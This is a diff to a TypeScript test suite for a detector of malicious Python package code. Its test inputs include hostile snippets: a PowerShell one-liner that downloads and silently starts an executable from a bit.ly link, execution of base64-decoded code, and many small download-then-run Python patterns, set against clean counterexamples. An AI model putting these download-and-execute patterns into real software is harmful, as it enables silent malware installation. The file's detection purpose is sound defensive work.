@@ -86,6 +86,7 @@ describe('what each flag is for', () => {
     // GuardDog's code-execution.py case (DataDog/guarddog, tests/analyzer/sourcecode, Apache-2.0): PowerShell's `-window` prefix of -WindowStyle.
     ['silent-process', `import os\nos.system("powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://bit.ly/2myCV9n',$env:APPDATA+'\\Main.exe'); Start-Process $env:APPDATA'\\Main.exe'")\n`],
     ['silent-process', 'import subprocess\nsubprocess.run(["powershell", "-enc", "SQBFAFgA"])\n'],
+    ['exec-decoded', 'from subprocess import run\nimport base64\nrun(["python", "-c", base64.b64decode(CODE)])\n'],
     ['dynamic-import', 'm = __import__("so"[::-1])\n'],
     ['obfuscation', '___ = eval\n'],
     ['encoded-blob', `import marshal\nexec(marshal.loads(DATA))\nDATA = "${'QUJD'.repeat(300)}"\n`],
@@ -172,5 +173,61 @@ describe('PowerShell parameters a reader must take by prefix', () => {
   ] as const)('%s', (_label, command, silent) => {
     const flags = readImportCode(`import subprocess\nsubprocess.run(${JSON.stringify(command)}, shell=True)\n`).flags;
     expect(flags.includes('silent-process')).toBe(silent);
+  });
+});
+
+describe('a saved download run as a program', () => {
+  // python-parasail 1.3.3's setup.py (fixtures/setup-py/parasail.setup.py, fixtures/PROVENANCE.md)
+  // downloads GNU autotools' source tarballs with urlretrieve, unpacks them in Python and runs
+  // ./configure and make in the unpacked directory: an ordinary build, not the download run.
+  const PARASAIL = readFileSync(new URL('../../fixtures/setup-py/parasail.setup.py', import.meta.url), 'utf8');
+  /** parasail's setup.py with its `untar(tarball)` line replaced: an edit. */
+  const parasailEdit = (replacement: string): string => {
+    expect(PARASAIL).toContain('            untar(tarball)\n');
+    return PARASAIL.replace('            untar(tarball)\n', `            ${replacement}\n`);
+  };
+
+  it('the real parasail setup.py: a downloaded source archive unpacked and built is not a finding', () => {
+    expect(readImportCode(PARASAIL).flags).toEqual([]);
+  });
+
+  it.each([
+    ['parasail, edited: the tarball unpacked by tar instead of Python', 'subprocess.check_call(["tar", "xzf", tarball])', []],
+    ['parasail, edited: the tarball checked by sha256sum', 'os.system("sha256sum " + tarball)', []],
+    ['parasail, edited: the tarball itself started', 'subprocess.call([os.path.abspath(tarball)])', ['download-and-run']],
+    ['parasail, edited: the tarball started from a command line', 'os.system("./{}".format(tarball))', ['download-and-run']],
+    ['parasail, edited: the tarball handed to a shell', 'subprocess.call(["sh", tarball])', ['download-and-run']],
+    ['parasail, edited: the tarball made executable', 'os.chmod(tarball, 0o755)', ['download-and-run']],
+  ] as const)('%s', (_name, line, flags) => {
+    expect(readImportCode(parasailEdit(line)).flags).toEqual(flags);
+  });
+
+  // Synthetic, each the smallest form of one way a download reaches a process.
+  it.each([
+    ['urlretrieve to a relative name, run as ./name', 'import urllib.request, subprocess\nurllib.request.urlretrieve(url, "a")\nsubprocess.call(["./a"])\n'],
+    ['the path through two names', 'p = "/tmp/a"\nurlretrieve(u, p)\nexe = p\nsubprocess.call([exe, "-q"])\n'],
+    ['the literal path of a name, run by its literal', 'dst = "/tmp/a"\nurlretrieve(u, dst)\nos.system("/tmp/a &")\n'],
+    ['the name urlretrieve returns, made executable by a shell chmod', 'fn, _ = urlretrieve(u)\nos.system(f"chmod +x {fn}")\n'],
+    ['requests content written with open(…, "wb"), run through a command list', 'r = requests.get(u)\nwith open(dst, "wb") as f:\n    f.write(r.content)\ncmd = ["./" + dst]\nsubprocess.Popen(cmd)\n'],
+    ['urlopen copied with shutil.copyfileobj, given to the interpreter', 'with urlopen(u) as resp, open(dst, "wb") as out:\n    shutil.copyfileobj(resp, out)\nsubprocess.Popen([sys.executable, dst])\n'],
+    ['a chained write, started by os.startfile', 'data = urlopen(u).read()\nopen(path, "wb").write(data)\nos.startfile(path)\n'],
+    ['after `start /B` on Windows', 'urlretrieve(u, "x.bin")\nos.system("start /B x.bin")\n'],
+    ['os.execv of the saved path', 'urlretrieve(u, target)\nos.execv(target, [target])\n'],
+    ['a process function imported by name', 'from subprocess import call\nurlretrieve(u, "a")\ncall(["./a"])\n'],
+    ['os.system imported under another name', 'from os import (\n    path,\n    system as _s,\n)\nurlretrieve(u, "a")\n_s("./a")\n'],
+  ])('%s: download-and-run', (_name, text) => {
+    expect(readImportCode(text).flags).toEqual(['download-and-run']);
+  });
+
+  it.each([
+    // GuardDog's download-executable.py:156 `ok` case has this shape (echo of the written name).
+    ['the saved name only echoed', 'response = requests.get(URL)\nopen("exo.txt", "wb").write(response.content)\nos.system("echo exo.txt")\n'],
+    ['a file written with local bytes, then run', 'with open(dst, "wb") as f:\n    f.write(b"x")\nos.system("./" + dst)\nurlopen(u)\n'],
+    ['a download verified by gpg', 'urlretrieve(u, "a.tgz")\nsubprocess.check_call(["gpg", "--verify", "a.tgz.asc", "a.tgz"])\n'],
+    ['a download made read-only', 'urlretrieve(u, "a")\nos.chmod("a", 0o644)\n'],
+    ['another file run', 'urlretrieve(u, "data.json")\nsubprocess.call(["./build.sh"])\n'],
+    ['a function of its own named call', 'def call(x):\n    pass\nurlretrieve(u, "a")\ncall(["./a"])\n'],
+  ])('%s: clean', (_name, text) => {
+    expect(readImportCode(text).flags).toEqual([]);
   });
 });
